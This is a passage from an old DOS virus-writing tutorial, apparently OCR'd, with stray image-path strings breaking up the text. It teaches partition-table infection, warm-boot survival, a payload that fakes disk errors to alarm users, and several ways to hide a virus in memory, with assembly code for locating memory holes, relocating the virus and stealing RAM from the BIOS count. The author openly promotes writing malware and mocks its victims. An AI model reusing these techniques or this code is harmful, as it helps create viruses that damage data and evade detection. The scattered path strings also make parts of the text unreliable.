figuringout how to infect Boot Sectors -- Partition table infection is enough for me. A similar thing happens here but you have to figure out where the last sector will be. This is dangerous because if the boot sector isinfected with something else the right values won't be there and you'll fuck up the disk).

Upon bootup, the DOS ints are all IRETs and when DOS revectors them for itself, it will not call your code - ie. the initial values are never used again. The trick is to latch a piece of code onto i13h (disk services) which checks whether or not i21h has changed since the last disk call.

The reason this works is because DOS must be loaded off the hard disk. Once it has been, it will revector i21h to itself - then go and load up COMMAND.COM. When it goes to load up COMMAND.COM, i21's vector would have changed, and pow, you revector it to your virus.

Infecting the partition table is easy. IBM decided to do something useful for a change, and said that each of the 4 information blocks had to include the starting cylinder, end cylinder, sectors, and most of all, the Cylinder, Head and Sector # of the last sector. This bit is the most useful; simply load it up using a LES DI, CS:[SI+xxx] where DS:SI points to the beginning of the partition table and the xxx isthe relative offset of the partition info entry.

Warm-boot survival

I am not absoltely sure on how this works (I am yet to implement it), but I'm fairly certain it works using, in part, a similar principle to partition table infection.

For this you must tap int 09h (BIOS keyboard) and wait for the faithful CTRL-ALT-DEL combination. This is easy. (as a side note: it is in instances such as this where you gain knowledge which can be used in other applications besides viruses. The environment of the virus ensures that your code is reasonably small andefficient... or at least I hope it is..!).

We must know a bit about the workings of the keyboard interrupt before we proceed. As you know, it's mapped as int 9h on the vector table, and it occupies IRQ1 (after int 8, which is IRQ0. This is not important). Everytime a key is pressed or released, it will generate an interrupt.

In your interrupt handler, you must check to see if the DEL key has been pressed, and if so,check if CTRL and ALT are pressed. If it meets all these criteria, your routine to hide away and stay resident swings into action.

Your routine to hide away would be exactly the same as the way you reserve memory when going TSR from the partition table: taking x kilobytes off the total at 0:413h, loading that up into AX and SHL AX by 6 to get the destination segment. Write your virus to that area, reset a whole bunch of vectors, hook int 13h (also like the partition infection), and throw an int 19h.

By now you might have realized that many of these overlap -- why have warm boot survival, partition table infection, SYS infection as well as vanilla COM and EXE infection? Well, it looks good on the VIRLIST.TXT which McFuck bundles with SCAN when there's a whole row of 'x's next to your virus. It also looks nice on the VSUM summary when it says "PRhtAXK Parasitic Resident COM EXE SYS Partition Table COMMAND.COM infector". Aesthetic reasons....

(code comes later)

False Errors

This bit pales in comparison with all the previous tricks... this is just one to lighten up a little.

What better way to make a user pack shit when he/she/it sees the message "Seek Error accessing Drive C:"? or "Sector Not Found"? It's not a very nice thing to see when you're saving your 5000-page seasonal report on Ventura Publisher. It's just for a little fun.

We have to set up some sort of trigger device for this baby. You can set up a timer (from int 8 or whatever) and check if it's rolled over 30 minutes or so. But that would be a bit too obvious. How about every 30 minutes check ifthe timer's bit 4 is set? This would be a bit better. Anyway, choose which you think is most appropriate.

When it meets your selection and it triggers, simply return an error code on the next disk read/write operation. Make the error change every so often to keep the suckers guessing.

Here's a list of int 13's return codes for errors which you could use:

ffhSense operation failed (fixed disk)
cchWrite fault (fixed disk)
80hDrive not ready
40hSeek Error
20hController failure
04hSector Not Found
03hWrite Protect Error
02hAddress Mark Not Found

Note that the error must persist for at least 5 times, since DOS retries at least 3. If you have it only once, nine times out of ten DOS will continue and the end user won't shit himself. (You must keep a counter on the number of times it has been done. Once the predetermined threshhold has been reached, clear the error-induce flag and the counter).

The simple things in viruses are often the best...

TSR methods

It's obviously no good if you can program anything if you can't get the thing to stay in memory! There are many, many methods of remaining in memory after execution, some being better than others. Some are not used much at all. Some can be used only if the viruses are extremely small. I've seen some REAL whacky methods of going TSR, one of the strangest being MG-1 and MG-3 (written by the cunts who wrote the DIR-2 or Creeping Death virus...), but since they assume so much they don't work on all that many computers I'm afraid. Another wierd one is used by the FISH#6 virus. I only ever got tosee it a few times, and I've never since been able to step through the thing far enough to see it again (I don't know why. I guess I'll have to try again with soft-ice instead of Debug!). Enough shit, down to business.

One of the things people think will be the hardest before they write a virus is they think there's no way to work out offsets of data tables andinstructions and stuff. This is shit! Once you situate your virus on a paragraph boundary, you can treat that paragraph boundary as if it were the PSP segment. Then you can program it as normal, using all offsets as if you were writing a normal program. The only bit you have to allow for differing memory positions is the TSR process and restoring control to the host program (both are usually found at the beginning of the virus anyway).

Vector Table

I've only ever seen one virus do this - and that is of course MG-1, written by the guys who wrote Creeping Death (as I said before). It is inherently dangerous because you don't know if some other stupid program is going to revector one of the high interrupts for its own use. The virus has to be very small (500 bytes maximum, which MG-1 fills up completely) otherwise you'll write over the BIOS data area. This one is not a good idea so I won't go into code examples. The only advantage to this method is that you have a definite, fixed adress to work from, but it's not really much of anadvantage.

Low Memory Hole

This isn't a great idea either, but it involves finding a small hole in the lower reaches of memory, among the device driver tables and other castaway initialization areas. The problem with this (unless you find an exceptionally large hole) is that you don't have a fixed reference point. If you find thisexceptionally large hole, though, you can round it off to a paragraph boundary and you can use that. Big holes are not common and you'd have to code extremely tightly with no bells or whistles for it to fit in. This was the first method I ever used to go TSR and believe me, it's not fantastic. The code for other methods is smaller anyway. The only advantage is that you don't decrease available memory.

(I'm writing this off the top of my head.. if I make a mistake, blow my brains out and call me The NSH Babe)

  find_hole:      mov ax, 40h
                  mov es, ax              ; point ES to BIOS/DOS data area
                  xor al, al
                  mov cx, -1              ; 65535
                  xor di, di
  fh1:            cmp cx, 1000
                  jb not_a_hole
                  repne scasb             ; repeat scan while ES:DI<>AL
                  push cx
                  mov cx, v_len+15        ; length of virus (allowfor
                                          ; paragraph boundary adjust)
                  repe scasb              ; repeat scan while ES:DI=AL
                  pop bx
                  mov dx, bx
                  sub dx, cx
                  cmp dx, v_len+15
                  mov cx, bx
                  jb fh1
                  mov ax, di
                  mov bx, 10h
                  xor dx, dx
                  div bxinc ax                  ; paragraph boundary
                  sub ax, 10h
                  mov es, ax
                  mov di, 100h            ; points to your brand new hole
                  mov si, start of virus
                  mov cx, v_len
                  rep movsb

  not_a_hole:     restore and exit

As I said, there are most likely seriousbugs in the above code, so see if you can fix it for your own use...

Viruses which use this technique:

None (I just made it up, but there are some which use SIMILAR methods, the difference being that they don't round off to the paragraph boundary, which would have made things so much easier for them!)

Normal Memory Block

I hate this method almost as much. Not only is it dead obvious, it is noticeable when the virus first becomes resident.

This method is widely employed, however. I don't want you to do this, but I'll tell you anyway because I don't want you all to rush out and use my method...

As you know, files are loaded starting at the PSP segment. DS and ES point to this segment. Regardless of what segment you are in (ie. in an EXE file) you can write your virus to there.

Before we start, we must get some sort of reference point. This differs from the relative offset in that it is the actual point which it points to (this is hard to explain)... ie you can't use it to reference another byte, it just points to the beginning of your virus. Now.. In this form, it must come FIRST in the entire virus. If it isn't, you must make alterations.

        call $+3
        pop si
        sub si, 3

This brings SI to point to the CALL instruction. You adjust the SUB operand to bring it to the right point if this isn't first.

Thestructure of this call is slightly different to the 'normal' virus. Firstly you must check to see if the virus is already loaded or not. If not, write the virus to PSP:100h with the code:

          (SI points to the start, as derived from the above code)
          push cs
          pop ds
          mov di, 0100h
          mov cx, v_len           ; length of virus
          rep movsb
          push ds
          mov ax, offset next_bit
          push ax
  next_bit:       [etc]

You can then revector your int 21h. Now comes the "tricky" part. You must size down your memory block and RE-EXECUTE the host program. (Extract the name out of the environment string at PSP-0a:0).

The tricky bit? When the host program is re-run the virus in it will think it is already resident and pass control to the host asper usual. (Here's the tricky bit). When it terminates, it will pass control back to your virus -- the instruction after the exec function call -- whence you proceed to make the normal TSR call through DOS.

Lame, isn't it?

Viruses which use this technique:

Himem: above TOM

(TOM stands for Top Of Memory if you didn't know)

There are plenty of places in the high memory region for viruses to find a cosy hidey-hole, but most are not very safe. They exist in video memory, shadow RAM areas and so forth. Programs such as QEMM utilize such holes to load drivers and shit, but what's the point of devoting 1k of code to find a failsafe hole when you can hide somewhere else for less?

Hiding in video ram is utterly stupid, but nevertheless some programmers insist on loading them there. Hmm, maybe they could hook int 10h (video) to intercept any calls to change modes and move themselves accordingly............... hmm that's actually not a bad idea. But where to move to? Why not stay somewhere else and save the bother?Also, remember that the majority of PCs in the world are (still) shitbox XT's -- they don't have RAM in areas which aren't used, unlike 286/386 machines and above. You might as well try scratching your name into a diamond with a steel file.

Don't bother with this method unless you're adventurous or stupid.

Viruses which use this technique: MG-3

But it is a different story for boot sector viruses - this is the only way to do it. There are no MCBs or DOS calls when you turn on your machine. So how?

When you make TOM not the real TOM. By decreasing the amount of RAM the computer THINKS it has, you can safely use the memory you've "chopped off" as your own.

This is easier than it sounds. To do this, it's just a matter of SUBbing or DECing an address in BIOS data area.

                  xor ax, ax
                  mov ds, ax
                  mov si, 413h
                  dec word ptr [si]dec word ptr [si]               ; take 2k
                  mov cl, 6
                  shl ax, cl

Pop, there's your segment.

Viruses which use this technique:

Himem: below TOM

This is my preferred means of going TSR. Naturally, I think most other methods are shit, but it's just a point of view. (you also can't see mysterious memory blocks using some of these methods.)

Many viruses use this also. I will discuss most ofthe methods available to use.

Reserving Memory at Himem

There are some lame viruses which write themselves to high memory and don't bother aboutreserving memory so they won't be overwritten! This is stupid because on certain DOS versions, if the transient portion is overwritten it will reload itself, overwriting the virus and hanging the system. On other occasions, data will be loaded up over the top (perhaps loading up something like this text file in QEdit would do such a thing). One thing is for certain, you're better off hiding even in Video RAM than in high mem without reserving memory. Anyway, here are some methodsof reserving that real estate.

Shortening last block using DOS calls

Some very things are very obvious when using debuggers. One of those things is making DOS calls to modify memory blocks. Any novice can spot a series of instructions...

    Free Allocated Memory
    Allocate Memory (ffffh)
    Allocate Memory (7e09h)
    Allocate Memory (074h)
